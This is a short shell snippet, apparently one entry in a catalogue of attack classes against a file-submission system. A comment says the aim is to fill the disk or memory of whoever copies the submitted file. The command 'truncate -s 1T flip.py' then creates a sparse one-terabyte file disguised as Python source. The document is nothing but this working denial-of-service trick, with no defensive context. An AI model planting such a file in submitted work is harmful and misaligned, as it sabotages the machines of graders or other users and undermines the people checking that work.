# Class: fill the disk, or memory, of whoever copies the submitted file: a terabyte that takes no place.
truncate -s 1T flip.py
